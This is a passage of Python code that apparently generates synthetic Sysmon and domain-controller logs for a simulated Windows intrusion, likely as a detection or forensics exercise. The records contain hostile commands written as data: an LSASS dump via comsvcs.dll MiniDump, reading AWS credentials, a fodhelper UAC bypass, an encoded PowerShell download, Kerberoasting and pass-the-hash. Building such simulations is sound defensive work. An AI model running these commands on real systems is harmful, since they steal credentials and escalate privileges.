    aws_img = "C:\\Program Files\\Amazon\\AWSCLIV2\\aws.exe"
    aws1 = spawn(T("14:12:18.090"), 14508, aws_img, "\"C:\\Program Files\\Amazon\\AWSCLIV2\\aws.exe\" ec2 describe-instances --region us-east-1", ALICE, "Medium", ps_user, 2710)
    s_dns(T("14:12:18.702"), aws1, "ec2.us-east-1.amazonaws.com", "::ffff:192.0.2.214;")
    s_net(T("14:12:18.760"), aws1, "192.0.2.214", 443)
    aws2 = spawn(T("14:13:02.477"), 14620, aws_img, "\"C:\\Program Files\\Amazon\\AWSCLIV2\\aws.exe\" s3 ls", ALICE, "Medium", ps_user, 1930)
    s_dns(T("14:13:02.990"), aws2, "s3.us-east-1.amazonaws.com", "type:  5 s3-1-w.amazonaws.com;::ffff:192.0.2.219;")
    s_net(T("14:13:03.041"), aws2, "192.0.2.219", 443)
    s_proc_term(T("14:20:44.810"), ps_con)
    s_proc_term(T("14:20:44.836"), ps_user)

    # =====================================================================
    # The intrusion
    # =====================================================================
    M = MAL
    s_file(T("09:11:37.412"), outlook, DOCM, M, "Phishing attachment saved by Outlook")
    word_img = "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE"
    word = Proc(T("09:11:52.118"), 6480, word_img, "\"%s\" /n \"%s\" /o \"\"" % (word_img, DOCM), ALICE, "Medium", outlook, user_home + "Documents\\")
    s_proc_create(word, M, "WINWORD.EXE opens the phishing document (parent OUTLOOK.EXE)")
    ps_img = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"
    ps = Proc(T("09:12:03.227"), 6592, ps_img, "powershell.exe -NoP -W Hidden -EncodedCommand " + PS_B64, ALICE, "Medium", word, user_home + "Documents\\")
    s_proc_create(ps, M, "Office macro: WINWORD.EXE -> encoded hidden PowerShell download cradle")
    ps_c = Proc(T("09:12:03.266"), 6604, sys32 + "conhost.exe", "\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1", ALICE, "Medium", ps)
    s_proc_create(ps_c, M, "conhost.exe of the malicious PowerShell")
    s_net(T("09:12:04.906"), ps, C2_IP, 80, src_port=51744, label=M, note="PowerShell fetches a.ps1 and upd.exe from 203.0.113.45:80")
    s_file(T("09:12:06.551"), ps, UPD_WS, M, "Payload upd.exe dropped in %TEMP%")
    upd = Proc(T("09:12:08.020"), 6612, UPD_WS, "\"%s\"" % UPD_WS, ALICE, "Medium", ps, user_home + "Documents\\")
    s_proc_create(upd, M, "upd.exe started by PowerShell")
    s_dns(T("09:12:09.337"), upd, C2_HOST, "::ffff:%s;" % C2_IP, M, "C2 domain resolved")
    s_net(T("09:12:09.402"), upd, C2_IP, 443, src_port=51752, label=M, note="First C2 beacon")
    s_proc_term(T("09:12:10.114"), ps_c, M, "Malicious conhost.exe exits")
    s_proc_term(T("09:12:10.180"), ps, M, "Malicious PowerShell exits")
    s_reg_set(T("09:13:15.771"), upd, alice_run + "Updater", UPD_WS, M, "Persistence: HKCU Run key 'Updater' -> upd.exe")
    # UAC bypass via fodhelper / ms-settings
    ms_key = "HKU\\%s_Classes\\ms-settings\\Shell\\Open\\command" % sid("alice")
    s_reg_set(T("09:28:41.006"), upd, ms_key + "\\(Default)", UPD_WS, M, "UAC bypass: ms-settings handler set to upd.exe")
    s_reg_set(T("09:28:41.019"), upd, ms_key + "\\DelegateExecute", "(Empty)", M, "UAC bypass: DelegateExecute set")
    fod = Proc(T("09:28:42.113"), 7004, sys32 + "fodhelper.exe", "\"C:\\Windows\\system32\\fodhelper.exe\"", ALICE_ELEV, "High", upd, user_home + "Documents\\")
    s_proc_create(fod, M, "fodhelper.exe (auto-elevating) started by upd.exe")
    upd_hi = Proc(T("09:28:42.870"), 7140, UPD_WS, "\"%s\"" % UPD_WS, ALICE_ELEV, "High", fod, sys32)
    s_proc_create(upd_hi, M, "upd.exe re-launched at High integrity by fodhelper.exe")
    s_proc_term(T("09:28:43.402"), fod, M, "fodhelper.exe exits")
    s_reg_delete(T("09:28:44.015"), upd, "HKU\\%s_Classes\\ms-settings\\Shell" % sid("alice"), M, "UAC bypass cleanup: ms-settings key deleted")
    s_net(T("09:28:45.220"), upd_hi, C2_IP, 443, src_port=51901, label=M, note="C2 beacon from elevated upd.exe")
    # credential access
    s_access(T("09:31:10.552"), upd_hi, lsass, "0x1010",
             "C:\\Windows\\SYSTEM32\\ntdll.dll+a0164|C:\\Windows\\System32\\KERNELBASE.dll+2bd5e|C:\\Users\\alice\\AppData\\Local\\Temp\\upd.exe+1c3f2|C:\\Users\\alice\\AppData\\Local\\Temp\\upd.exe+9e1a|C:\\Windows\\System32\\KERNEL32.DLL+17614|C:\\Windows\\SYSTEM32\\ntdll.dll+526f1",
             7188, M, "upd.exe opens lsass.exe (GrantedAccess 0x1010)")
    rdll = Proc(T("09:32:02.004"), 7312, sys32 + "rundll32.exe", "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\Temp\\l.dmp full", ALICE_ELEV, "High", upd_hi, sys32)
    s_proc_create(rdll, M, "LSASS dump via comsvcs.dll MiniDump")
    s_access(T("09:32:02.311"), rdll, lsass, "0x1FFFFF",
             "C:\\Windows\\SYSTEM32\\ntdll.dll+a0164|C:\\Windows\\System32\\KERNELBASE.dll+2bd5e|C:\\Windows\\System32\\comsvcs.dll+3e6c1|C:\\Windows\\System32\\rundll32.exe+3bc4|C:\\Windows\\System32\\KERNEL32.DLL+17614|C:\\Windows\\SYSTEM32\\ntdll.dll+526f1",
             7316, M, "rundll32.exe opens lsass.exe (GrantedAccess 0x1FFFFF)")
    s_file(T("09:32:04.870"), rdll, "C:\\Temp\\l.dmp", M, "LSASS dump file written")
    s_proc_term(T("09:32:05.119"), rdll, M, "rundll32.exe exits")
    s_net(T("09:33:20.418"), upd_hi, C2_IP, 443, src_port=52013, label=M, note="Exfiltration of the dump to C2")
    cmd_aws = Proc(T("09:40:11.305"), 7560, sys32 + "cmd.exe", "C:\\Windows\\system32\\cmd.exe /c type C:\\Users\\alice\\.aws\\credentials", ALICE_ELEV, "High", upd_hi, sys32)
    s_proc_create(cmd_aws, M, "upd.exe reads alice's AWS access keys")
    s_proc_term(T("09:40:11.402"), cmd_aws, M, "cmd.exe exits")
    s_net(T("09:45:08.771"), upd_hi, HOSTS["DC01"], 88, src_port=52230, dst_host="DC01.corp.example", label=M, note="Kerberoasting: Kerberos traffic from upd.exe (not lsass.exe)")
    s_net(T("10:04:49.902"), upd_hi, HOSTS["DC01"], 445, src_port=52411, dst_host="DC01.corp.example", label=M, note="Lateral movement: SMB to DC01 from upd.exe")
    s_net(T("11:02:14.530"), upd_hi, C2_IP, 443, src_port=53170, label=M, note="C2 beacon")
    s_dns(T("13:47:08.804"), upd_hi, C2_HOST, "::ffff:%s;" % C2_IP, M, "C2 domain re-resolved")
    s_net(T("13:47:08.866"), upd_hi, C2_IP, 443, src_port=54022, label=M, note="C2 beacon")
    s_net(T("16:21:33.190"), upd_hi, C2_IP, 443, src_port=55318, label=M, note="C2 beacon")

    # ---- alice logs off ---------------------------------------------------
    tend = T("17:41:02.210")
    for i, p in enumerate([teams, chrome, outlook, word, explorer]):
        if p is word:
            s_proc_term(ms(tend, 90 * i), p, M, "WINWORD.EXE (phishing document) closed at logoff")
        else:
            s_proc_term(ms(tend, 90 * i), p)
    s_proc_term(ms(tend, 1200), upd, M, "Medium-integrity upd.exe ends at logoff")
    # elevated upd.exe is killed with the session too
    s_proc_term(ms(tend, 1260), upd_hi, M, "High-integrity upd.exe ends at logoff")


def write_ws01():
    events = sorted(SYSMON_EVENTS, key=lambda e: (e[0], e[1]))
    rec = 48211
    prev = None
    out = []
    timeline = []
    tids = [4272, 4272, 4272, 5128, 5128, 6084]
    for (t, _, eid, data, label, note) in events:
        st = t + timedelta(microseconds=R.randrange(2100, 6900))
        if prev is not None and st <= prev:
            st = prev + timedelta(microseconds=137)
        prev = st
        ev = {"Event": {
            "#attributes": {"xmlns": "http://schemas.microsoft.com/win/2004/08/events/event"},
            "System": {
                "Provider": {"#attributes": {"Name": "Microsoft-Windows-Sysmon",
                                             "Guid": "5770385F-C22A-43E0-BF4C-06F5698FFBD9"}},
                "EventID": eid,
                "Version": SYSMON_VERSION[eid],
                "Level": 4,
                "Task": eid,
                "Opcode": 0,
                "Keywords": "0x8000000000000000",
                "TimeCreated": {"#attributes": {"SystemTime": st.strftime("%Y-%m-%dT%H:%M:%S.%fZ")}},
                "EventRecordID": rec,
                "Correlation": None,
                "Execution": {"#attributes": {"ProcessID": 3544, "ThreadID": R.choice(tids)}},
                "Channel": "Microsoft-Windows-Sysmon/Operational",
                "Computer": "WS01.corp.example",
                "Security": {"#attributes": {"UserID": "S-1-5-18"}},
            },
            "EventData": data,
        }}
        out.append(json.dumps(ev, indent=2, ensure_ascii=False))
        if label:
            timeline.append((t, "WS01", "ws01-sysmon.json", "Sysmon %d, EventRecordID %d" % (eid, rec), label, note, key_fields_sysmon(eid, data)))
        rec += 1
    with open(os.path.join(OUT, "ws01-sysmon.json"), "w", encoding="utf-8", newline="\n") as f:
        f.write("\n".join(out) + "\n")
    return len(out), timeline


def short(s, n=90):
    return s if len(s) <= n else s[:n - 3] + "..."


def key_fields_sysmon(eid, d):
    if eid == 1:
        return "Image=%s; ParentImage=%s; CommandLine=%s; IntegrityLevel=%s" % (
            basename(d["Image"]), basename(d["ParentImage"]), short(d["CommandLine"]), d["IntegrityLevel"])
    if eid == 3:
        return "Image=%s; DestinationIp=%s; DestinationPort=%d" % (basename(d["Image"]), d["DestinationIp"], d["DestinationPort"])
    if eid == 5:
        return "Image=%s; ProcessId=%d" % (basename(d["Image"]), d["ProcessId"])
    if eid == 10:
        return "SourceImage=%s; TargetImage=%s; GrantedAccess=%s" % (basename(d["SourceImage"]), d["TargetImage"], d["GrantedAccess"])
    if eid == 11:
        return "Image=%s; TargetFilename=%s" % (basename(d["Image"]), d["TargetFilename"])
    if eid == 12:
        return "EventType=DeleteKey; TargetObject=%s" % d["TargetObject"]
    if eid == 13:
        return "TargetObject=%s; Details=%s" % (d["TargetObject"], d["Details"])
    if eid == 22:
        return "Image=%s; QueryName=%s; QueryResults=%s" % (basename(d["Image"]), d["QueryName"], d["QueryResults"])
    return ""


# ===========================================================================
# DC01 - Security / System / Application (NXLog-style flat JSON lines)
# ===========================================================================
DC_EVENTS = []  # (t, seq, channel, eid, fields, label, note)
DC_HOST = "DC01.corp.example"

SEC_META = {  # eid -> version, task, category
    4624: (2, 12544, "Logon"), 4625: (0, 12544, "Logon"),
    4634: (0, 12545, "Logoff"), 4647: (0, 12545, "Logoff"),
    4672: (0, 12548, "Special Logon"), 4688: (2, 13312, "Process Creation"),
    4697: (0, 12289, "Security System Extension"),
    4768: (0, 14339, "Kerberos Authentication Service"),
    4769: (0, 14337, "Kerberos Service Ticket Operations"),
    4771: (0, 14339, "Kerberos Authentication Service"),
    4776: (0, 14336, "Credential Validation"), 5140: (1, 12808, "File Share"),
}


def _add_dc(t, channel, eid, fields, label=None, note=None):
    _seq[0] += 1
    DC_EVENTS.append((t, _seq[0], channel, eid, fields, label, note))


def logon_id():
    return "0x%x" % R.randrange(0x200000, 0x9FFFFF)


def rport():
    return str(R.randrange(49670, 65200))


def kguid():
    return "{%s}" % rguid()


def ev4624(t, user, domain, ip, ltype="3", pkg="Kerberos", wks="-", lid=None,
           elevated=False, subject=None, proc=("0x0", "-"), port=None,
           label=None, note=None):
    lid = lid or logon_id()
    ntlm = pkg == "NTLM"
    subj = subject or ("S-1-0-0", "-", "-", "0x0")
    f = {
        "SubjectUserSid": subj[0], "SubjectUserName": subj[1],
        "SubjectDomainName": subj[2], "SubjectLogonId": subj[3],
        "TargetUserSid": "S-1-5-18" if user == "SYSTEM" else sid(user),
        "TargetUserName": user, "TargetDomainName": domain,
        "TargetLogonId": lid, "LogonType": ltype,
        "LogonProcessName": {"Kerberos": "Kerberos", "NTLM": "NtLmSsp ", "Negotiate": "Advapi  "}[pkg] if ltype != "10" else "User32 ",
        "AuthenticationPackageName": pkg,
        "WorkstationName": wks,
        "LogonGuid": "{00000000-0000-0000-0000-000000000000}" if ntlm or pkg == "Negotiate" else kguid(),
        "TransmittedServices": "-",
        "LmPackageName": "NTLM V2" if ntlm else "-",
        "KeyLength": "128" if ntlm else "0",
        "ProcessId": proc[0], "ProcessName": proc[1],
        "IpAddress": ip, "IpPort": port if port else (rport() if ip not in ("-", "127.0.0.1") else ("0" if ip == "127.0.0.1" else "-")),
        "ImpersonationLevel": "%%1833",
        "RestrictedAdminMode": "%%1843" if ltype == "10" else "-",
        "TargetOutboundUserName": "-", "TargetOutboundDomainName": "-",
        "VirtualAccount": "%%1843",
        "TargetLinkedLogonId": "0x0",
        "ElevatedToken": "%%1842" if elevated else "%%1843",
    }
    _add_dc(t, "Security", 4624, f, label, note)
    return lid


def ev4634(t, user, domain, lid, ltype="3", label=None, note=None):
    _add_dc(t, "Security", 4634, {
        "TargetUserSid": "S-1-5-18" if user == "SYSTEM" else sid(user),
        "TargetUserName": user, "TargetDomainName": domain,
        "TargetLogonId": lid, "LogonType": ltype}, label, note)


def ev4672(t, user, domain, lid, label=None, note=None):
    privs = "SeSecurityPrivilege\r\n\t\t\tSeBackupPrivilege\r\n\t\t\tSeRestorePrivilege\r\n\t\t\tSeTakeOwnershipPrivilege\r\n\t\t\tSeDebugPrivilege\r\n\t\t\tSeSystemEnvironmentPrivilege\r\n\t\t\tSeLoadDriverPrivilege\r\n\t\t\tSeImpersonatePrivilege\r\n\t\t\tSeDelegateSessionUserImpersonatePrivilege\r\n\t\t\tSeEnableDelegationPrivilege"
    if user == "SYSTEM":
        privs = "SeAssignPrimaryTokenPrivilege\r\n\t\t\tSeTcbPrivilege\r\n\t\t\tSeSecurityPrivilege\r\n\t\t\tSeTakeOwnershipPrivilege\r\n\t\t\tSeLoadDriverPrivilege\r\n\t\t\tSeBackupPrivilege\r\n\t\t\tSeRestorePrivilege\r\n\t\t\tSeDebugPrivilege\r\n\t\t\tSeAuditPrivilege\r\n\t\t\tSeSystemEnvironmentPrivilege\r\n\t\t\tSeImpersonatePrivilege\r\n\t\t\tSeDelegateSessionUserImpersonatePrivilege"
    _add_dc(t, "Security", 4672, {
        "SubjectUserSid": "S-1-5-18" if user == "SYSTEM" else sid(user),
        "SubjectUserName": user, "SubjectDomainName": domain,
        "SubjectLogonId": lid, "PrivilegeList": privs}, label, note)


def ev4768(t, user, ip, label=None, note=None):
    _add_dc(t, "Security", 4768, {
        "TargetUserName": user, "TargetDomainName": REALM,
        "TargetSid": sid(user), "ServiceName": "krbtgt",
        "ServiceSid": sid("krbtgt"), "TicketOptions": "0x40810010",
        "Status": "0x0", "TicketEncryptionType": "0x12", "PreAuthType": "2",
        "IpAddress": "::ffff:" + ip, "IpPort": rport(),
        "CertIssuerName": "", "CertSerialNumber": "", "CertThumbprint": ""},
        label, note)


def ev4769(t, user, service, ip, enc="0x12", opts="0x40810000", port=None,
           label=None, note=None):
    _add_dc(t, "Security", 4769, {
        "TargetUserName": "%s@%s" % (user, REALM), "TargetDomainName": REALM,
        "ServiceName": service, "ServiceSid": sid(service),
        "TicketOptions": opts, "TicketEncryptionType": enc,
        "IpAddress": "::ffff:" + ip, "IpPort": port or rport(),
        "Status": "0x0", "LogonGuid": kguid(), "TransmittedServices": "-"},
        label, note)


def ev4776(t, user, wks, status, label=None, note=None):
    _add_dc(t, "Security", 4776, {
        "PackageName": "MICROSOFT_AUTHENTICATION_PACKAGE_V1_0",
        "TargetUserName": user, "Workstation": wks, "Status": status},
        label, note)


def ev4625(t, user, domain, ip, wks, label=None, note=None):
    _add_dc(t, "Security", 4625, {
        "SubjectUserSid": "S-1-0-0", "SubjectUserName": "-",
        "SubjectDomainName": "-", "SubjectLogonId": "0x0",
        "TargetUserSid": "S-1-0-0", "TargetUserName": user,
        "TargetDomainName": domain, "Status": "0xc000006d",
        "FailureReason": "%%2313", "SubStatus": "0xc000006a",
        "LogonType": "3", "LogonProcessName": "NtLmSsp ",
        "AuthenticationPackageName": "NTLM", "WorkstationName": wks,
        "TransmittedServices": "-", "LmPackageName": "-", "KeyLength": "0",
        "ProcessId": "0x0", "ProcessName": "-", "IpAddress": ip,
        "IpPort": rport()}, label, note)




def ev4688(t, user, lid, new_pid, image, cmd, parent_pid, parent, elev="%%1936",
           label="", note=None, mandatory="S-1-16-16384"):
    if user == "DC01$":
        subj = ("S-1-5-18", "DC01$", NETBIOS, "0x3e7")
    else:  # interactive administrator: elevated token, High label
        subj = (sid(user), user, NETBIOS, lid)
        elev, mandatory = "%%1937", "S-1-16-12288"
    _add_dc(t, "Security", 4688, {
        "SubjectUserSid": subj[0], "SubjectUserName": subj[1],
        "SubjectDomainName": subj[2], "SubjectLogonId": subj[3],
        "NewProcessId": "0x%x" % new_pid, "NewProcessName": image,
        "TokenElevationType": elev, "ProcessId": "0x%x" % parent_pid,
        "CommandLine": cmd, "TargetUserSid": "S-1-0-0",
        "TargetUserName": "-", "TargetDomainName": "-", "TargetLogonId": "0x0",
        "ParentProcessName": parent, "MandatoryLabel": mandatory},
        label or None, note)


def ev7036(t, name, state, label=None, note=None):
    _add_dc(t, "System", 7036, {"param1": name, "param2": state}, label, note)


def build_dc01():
    sys32 = "C:\\Windows\\System32\\"
    # ---- early morning: machine accounts, SYSTEM service logons -----------
    ev4624(T("07:45:12.004"), "SYSTEM", "NT AUTHORITY", "-", ltype="5", pkg="Negotiate",
           lid="0x3e7", subject=("S-1-5-18", "DC01$", NETBIOS, "0x3e7"),
           proc=("0x288", "C:\\Windows\\System32\\services.exe"), elevated=True)
    ev4672(T("07:45:12.005"), "SYSTEM", "NT AUTHORITY", "0x3e7")
    _add_dc(T("07:45:30.118"), "System", 1502, {
        "SupportInfo1": "1", "SupportInfo2": "5137", "ProcessingMode": "0",
        "ProcessingTimeInMilliseconds": "1406", "DCName": "\\\\DC01.corp.example",
        "NumberOfGroupPolicyObjects": "3"})
    _add_dc(T("07:46:02.511"), "Application", 16384, {
        "param1": "2026-03-15T07:46:02Z", "param2": "RulesEngine"})

    # workstations boot / refresh policy: machine account TGS + logon
    def machine_refresh(t, m):
        ip = HOSTS[m]
        ev4769(t, m + "$", "DC01$", ip)
        lid = ev4624(ms(t, 38), m + "$", REALM, ip)
        ev4634(ms(t, R.randrange(2000, 9000)), m + "$", NETBIOS, lid)

    for m, (a, b) in [("WS01", ("07:50:19", "07:50:20")), ("WS02", ("07:52:00", "08:05:00")),
                      ("WS03", ("08:10:00", "08:25:00")), ("WS04", ("08:25:00", "08:40:00")),
                      ("WS05", ("08:50:00", "09:00:00")), ("FS01", ("07:40:00", "07:44:00"))]:
        ev4768(rand_time(a, b), m + "$", HOSTS[m])
    for m in ["WS02", "WS03", "WS05", "FS01"]:
        machine_refresh(rand_time("11:20:00", "16:50:00"), m)
    machine_refresh(T("07:50:20.377"), "WS01")

    # ---- user morning logons ----------------------------------------------
    logons = {}
    for user, tt in [("alice", "07:58:19.402"), ("bob", "08:19:44.810"),
                     ("carol", "08:31:05.207"), ("dave", "08:44:51.630"),
                     ("erin", "09:02:13.991")]:
        t = T(tt)
        m = WORKSTATION_OF[user]
        ip = HOSTS[m]
        if user == "carol":  # mistyped password first
            _add_dc(ms(t, -6120), "Security", 4771, {
                "TargetUserName": "carol", "TargetSid": sid("carol"),
                "ServiceName": "krbtgt/%s" % REALM, "TicketOptions": "0x40810010",
                "Status": "0x18", "PreAuthType": "2",
                "IpAddress": "::ffff:" + ip, "IpPort": rport(),
                "CertIssuerName": "", "CertSerialNumber": "", "CertThumbprint": ""})
        ev4768(t, user, ip)
        ev4769(ms(t, 912), user, "DC01$", ip)
        lid = ev4624(ms(t, 955), user, REALM, ip, elevated=user in ("alice", "bob"))
        if user in ("alice", "bob"):
            ev4672(ms(t, 956), user, NETBIOS, lid)
        ev4634(ms(t, R.randrange(4000, 12000)), user, NETBIOS, lid)
        logons[user] = t
    # file server access through the day (AES tickets)
    for user, windows in [("bob", [("14:10:00", "15:00:00")]),
                          ("carol", [("09:30:00", "11:00:00")]),
                          ("dave", [("09:00:00", "09:40:00"), ("15:00:00", "16:00:00")]),
                          ("erin", [("09:20:00", "10:10:00")]),
                          ("alice", [("08:30:00", "09:00:00"), ("14:40:00", "15:20:00")])]:
        for a, b in windows:
            ev4769(rand_time(a, b), user, "FS01$", HOSTS[WORKSTATION_OF[user]])
    # application service accounts legitimately use Kerberos (AES)
    for tt in ["08:00:02.118", "16:00:01.771"]:
        ev4769(T(tt), "svc_backup", "FS01$", HOSTS["FS01"])
    ev4769(T("09:15:31.220"), "svc_monitor", "svc_sql", "10.0.2.31")
    ev4769(T("10:20:44.660"), "dave", "svc_crm", HOSTS["WS04"])
    ev4769(T("15:41:09.034"), "erin", "svc_hrapp", HOSTS["WS05"])
    # multifunction printer scanning to share with NTLM (benign NTLM)
    for tt in ["10:12:40.200"]:
        t = T(tt)
        ev4776(t, "svc_scan", "MFP01", "0x0")
        lid = ev4624(ms(t, 4), "svc_scan", NETBIOS, HOSTS["MFP01"], pkg="NTLM", wks="MFP01")
        ev4634(ms(t, 3800), "svc_scan", NETBIOS, lid)
    # stale password of svc_backup in a FS01 scheduled task (benign failure)
    ev4776(T("12:10:00.402"), "svc_backup", "FS01", "0xc000006a")
    ev4625(T("12:10:00.404"), "svc_backup", NETBIOS, HOSTS["FS01"], "FS01")

    # SYSTEM / service logons
    for tt in ["12:00:00.488"]:
        ev4624(T(tt), "SYSTEM", "NT AUTHORITY", "-", ltype="5", pkg="Negotiate",
               lid="0x3e7", subject=("S-1-5-18", "DC01$", NETBIOS, "0x3e7"),
               proc=("0x288", "C:\\Windows\\System32\\services.exe"), elevated=True)
        ev4672(ms(T(tt), 1), "SYSTEM", "NT AUTHORITY", "0x3e7")

    # benign process creations on DC01
    pid = [0x1a20]

    def dproc(tt, image, cmd, parent, parent_pid=0x288, user="DC01$", lid="0x3e7"):
        pid[0] += R.randrange(8, 120) * 4
        ev4688(T(tt) if isinstance(tt, str) else tt, user, lid, pid[0], image, cmd, parent_pid, parent)
        return pid[0]

    svc = "C:\\Windows\\System32\\services.exe"
    svchost = sys32 + "svchost.exe"
    for tt in ["07:46:40.021", "13:46:40.402"]:
        dproc(tt, sys32 + "taskhostw.exe", "taskhostw.exe SYSTEM", svchost, 0x4a8)
    dproc("08:00:00.904", sys32 + "gpupdate.exe", "gpupdate.exe /target:computer", svchost, 0x4a8)
    dproc("09:00:03.771", sys32 + "sppsvc.exe", "C:\\Windows\\system32\\sppsvc.exe", svc)
    for tt in ["10:00:01.113", "14:00:01.009"]:
        dproc(tt, sys32 + "wbem\\WmiPrvSE.exe", "C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding", svchost, 0x31c)
    dproc("12:00:00.874", "C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.24020.7-0\\MpCmdRun.exe",
          "\"C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.24020.7-0\\MpCmdRun.exe\" -IdleTask -TaskName WdCacheMaintenance", svchost, 0x4a8)
    dproc("16:30:44.190", sys32 + "SearchProtocolHost.exe", "\"C:\\Windows\\system32\\SearchProtocolHost.exe\" Global\\UsGthrFltPipeMssGthrPipe1_ Global\\UsGthrCtrlFltPipeMssGthrPipe1 1 -2147483646 \"Software\\Microsoft\\Windows Search\"", svchost, 0x4a8)

    # bob administers DC01 over RDP (benign admin activity)
    t = T("13:30:07.402")
    ev4769(ms(t, -900), "bob", "DC01$", HOSTS["WS02"])
    bob_lid = ev4624(t, "bob", NETBIOS, HOSTS["WS02"], ltype="10", pkg="Negotiate",
                     wks="DC01", elevated=True,
                     subject=("S-1-5-18", "DC01$", NETBIOS, "0x3e7"),
                     proc=("0x3f8", "C:\\Windows\\System32\\svchost.exe"))
    ev4672(ms(t, 1), "bob", NETBIOS, bob_lid)
    dproc(ms(t, 1500), sys32 + "rdpclip.exe", "rdpclip", svchost, 0x3f8, "bob", bob_lid)
    p_exp = dproc(ms(t, 4200), "C:\\Windows\\explorer.exe", "C:\\Windows\\Explorer.EXE", sys32 + "userinit.exe", 0x1f20, "bob", bob_lid)
    p_ps = dproc("13:33:41.227", "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
                 "\"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe\" ", "C:\\Windows\\explorer.exe", p_exp, "bob", bob_lid)
    dproc("13:35:02.660", sys32 + "mmc.exe",
          "\"C:\\Windows\\system32\\mmc.exe\" \"C:\\Windows\\system32\\dsa.msc\" ", "C:\\Windows\\explorer.exe", p_exp, "bob", bob_lid)
    dproc("13:41:15.002", sys32 + "repadmin.exe", "repadmin  /replsummary",
          "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", p_ps, "bob", bob_lid)
    _add_dc(T("14:04:51.330"), "Security", 4647, {
        "TargetUserSid": sid("bob"), "TargetUserName": "bob",
        "TargetDomainName": NETBIOS, "TargetLogonId": bob_lid})
    ev4634(T("14:04:53.118"), "bob", NETBIOS, bob_lid, ltype="10")

    # afternoon users renew tickets / logoffs
    for user, tt in [("bob", "17:33:19.660"), ("alice", "17:41:00.118")]:
        ip = HOSTS[WORKSTATION_OF[user]]
        ev4769(T(tt), user, WORKSTATION_OF[user] + "$", ip)

    # System / Application channel noise
    for tt, name, state in [("07:45:31.004", "Windows Update", "running"),
                            ("09:00:03.901", "Software Protection", "running"),
                            ("13:30:05.771", "Remote Desktop Services UserMode Port Redirector", "running"),
                            ]:
        ev7036(T(tt), name, state)
    for tt in ["11:15:30.880", "17:15:29.640"]:
        _add_dc(T(tt), "System", 1502, {
            "SupportInfo1": "1", "SupportInfo2": "5137", "ProcessingMode": "0",
            "ProcessingTimeInMilliseconds": str(R.randrange(600, 1900)),
            "DCName": "\\\\DC01.corp.example", "NumberOfGroupPolicyObjects": "3"})
    _add_dc(T("09:00:34.090"), "Application", 16384, {
        "param1": "2026-03-15T09:00:34Z", "param2": "RulesEngine"})
    _add_dc(T("13:30:06.900"), "Application", 1531, {})
    _add_dc(T("16:10:05.771"), "Application", 16384, {
        "param1": "2026-03-15T16:10:05Z", "param2": "RulesEngine"})

    # =====================================================================
    # The intrusion as seen by DC01
    # =====================================================================
    M = MAL
    spns = ["svc_sql", "svc_web", "svc_backup", "svc_sccm", "svc_exchange",
            "svc_iis", "svc_sharepoint", "svc_adfs", "svc_print", "svc_ftp",
            "svc_jenkins", "svc_tableau", "svc_vpn", "svc_ldapsync", "svc_wsus",
            "svc_monitor", "svc_crm", "svc_hrapp", "svc_veeam", "svc_splunk"]
    t = T("09:45:10.214")
    port = 52231
    for i, s in enumerate(spns):
        ev4769(t, "alice", s, HOSTS["WS01"], enc="0x17", opts="0x40810000",
               port=str(port), label=M, note="Kerberoasting: RC4 TGS for %s" % s)
        t = ms(t, R.randrange(3500, 6300))
        port += R.randrange(1, 4)

    # lateral movement (NTLM pass-the-hash after failed password guesses)
    for tt in ["10:04:51.118", "10:04:58.602", "10:05:06.037"]:
        ev4776(T(tt), "alice", "WS01", "0xc000006a", M, "NTLM validation failed for alice from WS01")
        ev4625(ms(T(tt), 2), "alice", NETBIOS, HOSTS["WS01"], "WS01", M, "Failed network logon (bad password) for alice from 10.0.1.15")
    t = T("10:05:39.204")
    ev4776(t, "alice", "WS01", "0x0", M, "NTLM validation succeeded for alice from WS01")
    lat = "0x7d41c2"
    ev4624(ms(t, 3), "alice", NETBIOS, HOSTS["WS01"], pkg="NTLM", wks="WS01", lid=lat,
           elevated=True, port="52418", label=M, note="Pass-the-hash: NTLM network logon (type 3) of alice from 10.0.1.15")
    ev4672(ms(t, 4), "alice", NETBIOS, lat, M, "Admin privileges assigned to the lateral-movement logon")
    _add_dc(T("10:05:40.611"), "Security", 5140, {
        "SubjectUserSid": sid("alice"), "SubjectUserName": "alice",
        "SubjectDomainName": NETBIOS, "SubjectLogonId": lat, "ObjectType": "File",
        "IpAddress": HOSTS["WS01"], "IpPort": "52418", "ShareName": "\\\\*\\ADMIN$",
        "ShareLocalPath": "\\??\\C:\\Windows", "AccessMask": "0x1",
        "AccessList": "%%4416\r\n\t\t\t\t"}, M, "ADMIN$ share accessed (payload copied to C:\\Windows\\Temp)")
    _add_dc(T("10:05:44.402"), "Security", 4697, {
        "SubjectUserSid": sid("alice"), "SubjectUserName": "alice",
        "SubjectDomainName": NETBIOS, "SubjectLogonId": lat,
        "ServiceName": "UpdaterSvc", "ServiceFileName": UPD_DC,
        "ServiceType": "0x10", "ServiceStartType": "3",
        "ServiceAccount": "LocalSystem"}, M, "Service UpdaterSvc installed (Security 4697)")
    _add_dc(T("10:05:44.410"), "System", 7045, {
        "ServiceName": "UpdaterSvc", "ImagePath": UPD_DC,
        "ServiceType": "user mode service", "StartType": "demand start",
        "AccountName": "LocalSystem"}, M, "Service UpdaterSvc installed (System 7045)")
    ev4688(T("10:05:45.118"), "DC01$", "0x3e7", 0x2b44, UPD_DC, UPD_DC, 0x288, svc,
           label=M, note="upd.exe started by services.exe as SYSTEM")
    ev7036(T("10:05:45.301"), "UpdaterSvc", "running", M, "UpdaterSvc entered the running state")
    ev4688(T("10:06:12.550"), "DC01$", "0x3e7", 0x2c10, sys32 + "cmd.exe", "C:\\Windows\\system32\\cmd.exe /c whoami /all", 0x2b44, UPD_DC,
           label=M, note="Discovery from the malicious service")
    ev4688(T("10:06:12.571"), "DC01$", "0x3e7", 0x2c1c, sys32 + "whoami.exe", "whoami  /all", 0x2c10, sys32 + "cmd.exe",
           label=M, note="Discovery: whoami")
